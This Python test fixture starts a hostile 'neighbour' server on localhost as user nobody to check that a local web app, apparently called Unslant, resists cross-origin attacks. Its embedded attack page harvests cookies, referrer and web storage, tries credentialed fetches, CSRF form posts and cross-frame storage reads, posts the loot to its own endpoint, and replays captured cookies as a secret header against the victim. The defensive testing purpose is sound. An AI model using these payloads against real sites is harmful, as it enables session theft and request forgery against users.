"""A server of another user of the machine, which notes what browsers send and tries to use it."""

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.request import urlopen

_SERVER = r"""
import encodings.idna, http.client, http.server, json, os, socketserver, sys
os.setgroups([])
os.setgid(65534)
os.setuid(65534)
victim = sys.argv[1]
host = victim.split("/")[2]
received = []

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode("latin-1")
        if self.path == "/received":
            return self.answer(json.dumps(received), "application/json")
        if self.path == "/replayed":
            return self.answer(json.dumps([self.replayed(it) for it in received]), "text/json")
        received.append([self.command, self.path, self.headers.items(), body])
        if self.path == "/away":
            self.send_response(302)
            self.send_header("Location", victim)
            return self.end_headers()
        self.answer(PAGE.replace("VICTIM", victim) if self.path == "/" else "", "text/html")

    do_POST = do_GET

    def answer(self, text, kind):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Referrer-Policy", "unsafe-url")
        self.end_headers()
        self.wfile.write(text.encode())

    def replayed(self, request):
        # Whatever came with a request is presented to the victim, cookies as secrets too.
        _, _, headers, _ = request
        sent = {name: value for name, value in headers if name.lower() in ("cookie", "referer")}
        found = []
        for value in [*sent.values(), *(it.partition("=")[2] for it in sent.values()), ""]:
            asked = http.client.HTTPConnection(host, timeout=10)
            asked.request("GET", "/api/start", headers={**sent, "X-Unslant-Secret": value})
            found.append(asked.getresponse().status)
        return found

    def log_message(self, *given):
        pass

PAGE = sys.stdin.read()
with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
    server.daemon_threads = True
    print(server.server_address[1], os.getuid(), flush=True)
    server.serve_forever()
"""

ATTACK = """<!doctype html><title>neighbour</title>
<img src="/picture.png"><img src="VICTIM"><img src="VICTIMapi/start">
<script src="VICTIMdoor.js"></script>
<iframe src="/framed"></iframe><iframe src="VICTIM" name="frame"></iframe>
<iframe src="/away"></iframe>
<form method="post" action="VICTIMapi/enter" enctype="text/plain" target="frame">
  <input name="{}"></form>
<form method="post" action="/form" target="frame"><input name="a" value="b"></form>
<script>
const stored = JSON.stringify({ ...sessionStorage, ...localStorage });
const loot = [document.cookie, document.referrer, name, stored];
const attempt = async (what, work) => {
  const found = await Promise.resolve().then(work).catch((error) => `no (${error.name})`);
  loot.push(`${what}: ${found}`);
};
const got = async (path, options) =>
  (await fetch("VICTIM" + path, { credentials: "include", ...options })).text();
const reached = (read) => new Promise((done, failed) => setTimeout(() => {
  try { done(read()); } catch (error) { failed(error); }
}, 1500));
(async () => {
  for (const form of document.forms) form.submit();
  await attempt("fetch", () => got("api/start"));
  await attempt("opaque", () => got("api/start", { mode: "no-cors" }));
  await attempt("header", () => got("api/start", { headers: { "X-Unslant-Secret": "x" } }));
  await attempt("enter", () => got("api/enter", { method: "POST", body: "{}" }));
  await attempt("frame", () => frames.frame.sessionStorage.getItem("unslant-secret"));
  const other = open("VICTIM");
  await attempt("window", () => reached(() => other.sessionStorage.getItem("unslant-secret")));
  await attempt("opener", () => opener && opener.sessionStorage.length);
  await fetch("/loot", { method: "POST", body: JSON.stringify(loot) });
  document.title = "done";
})();
</script>"""


@dataclass(frozen=True)
class Neighbour:
    """Where it listens, and what it can tell."""

    root: str
    uid: int

    def received(self) -> list[list[Any]]:
        """Method, path, headers and body of every request."""
        return list(self._told("received"))

    def replayed(self) -> list[list[int]]:
        """The statuses that the victim answers to what came with each request."""
        return list(self._told("replayed"))

    def _told(self, what: str) -> Any:
        with urlopen(f"{self.root}{what}") as answer:
            return json.load(answer)


@contextmanager
def neighbour_of(victim: str) -> Iterator[Neighbour]:
    """A server of the user "nobody" on a port of its own, which ends with the block."""
    with subprocess.Popen(
        [sys.executable, "-c", _SERVER, victim],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        try:
            assert process.stdin is not None
            assert process.stdout is not None
            process.stdin.write(ATTACK)
            process.stdin.close()
            port, uid = process.stdout.readline().split()
            yield Neighbour(f"http://127.0.0.1:{port}/", int(uid))
        finally:
            process.kill()


def can_change_user() -> bool:
    """Whether this process may start one of another user."""
    return os.name == "posix" and os.getuid() == 0
